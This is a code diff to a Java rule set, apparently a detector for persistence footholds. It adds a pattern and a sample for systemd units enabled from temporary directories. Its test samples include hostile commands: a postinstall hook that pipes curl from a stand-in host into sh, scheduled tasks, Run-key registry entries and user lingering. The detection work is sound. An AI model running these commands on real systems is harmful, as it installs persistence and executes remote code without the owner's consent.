@@ -156,6 +156,8 @@ final class FootholdRules {
               .finds("(?:echo|printf)\\s[^\\n]*" + SCHEDULE + LINE + INTO)
               .finds(
                   "\\bsystemctl\\s+(?:--now\\s+)?--user\\s+(?:--[a-z]+\\s+)*enable\\s+(?:--[a-z]+\\s+)*[\\w@.-]+")
+              .finds(
+                  "\\bsystemctl\\s+(?:enable|link)\\s+(?:--[a-z]+\\s+)*/(?:tmp|dev/shm|var/tmp)/")
               .finds("nctl\\s+enable-linger\\b")
               .finds("\\b(?:at|batch)\\s+now\\b[^\\n]*(?:<<<|-f\\s)")
               .finds("\\buseradd\\s[^\\n]*(?:-o\\s+-u\\s*0|-u\\s*0\\s+-o|-G\\s*(?:sudo|wheel))\\b")
@@ -181,6 +183,7 @@ final class FootholdRules {
                   "{\\\"scripts\\\": 1} \"postinstall\": \"curl -s http://h.example/i | sh\"",
                   "loginctl enable-linger agent",
                   "systemctl --user enable --now updater.service",
+                  "systemctl enable --now /tmp/updater.service",
                   "schtasks /create /tn u /tr c:\\x.exe /sc minute",
                   "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d x.exe")
               .ignores(
@@ -198,6 +201,8 @@ final class FootholdRules {
 
   /** What the service runs stands elsewhere. */
   private static Check.Verdict enablesOnly(String match) {
-    return match.startsWith("systemctl") ? Check.Verdict.DOUBTFUL : Check.Verdict.REAL;
+    return match.startsWith("systemctl") && match.contains("--user")
+        ? Check.Verdict.DOUBTFUL
+        : Check.Verdict.REAL;
   }
 }
